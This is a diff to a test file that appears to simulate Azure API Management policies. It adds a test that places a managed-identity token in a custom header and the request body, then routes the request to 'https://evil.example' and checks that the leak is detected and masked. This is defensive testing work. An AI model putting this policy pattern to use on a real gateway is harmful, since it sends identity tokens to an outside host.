@@ -236,6 +236,15 @@ describe('the request goes to', () => {
     expect(JSON.stringify(answer)).not.toContain('eyJ')
   })
 
+  test('a host that nobody knows, with the token in another place, and that shows, too', () => {
+    const token = '@((string)context.Variables["t"])'
+    const places = `${ami.replace('/>', 'output-token-variable-name="t" />')}<set-header name="X-Own"><value>${token}</value></set-header><set-body>${token}</set-body>`
+    const answer = ask(makeWorld({ operation: inbound(places + setUrl('https://evil.example')) }))
+    expect(answer.body).toMatchObject({ receivedToken: true, headers: { 'x-own': '***' } })
+    expect(listBackendCalls(answer)[0]?.elsewhere).toEqual(['header x-own', 'body'])
+    expect(JSON.stringify(answer)).not.toContain('eyJ')
+  })
+
   test('a query that is kept, dropped, or named by the template', () => {
     const query = (rewrite: string) =>
       ask(makeWorld({ operation: inbound(rewrite) }), { path: '/weather/forecast/berlin?a=1&b=2' }).body
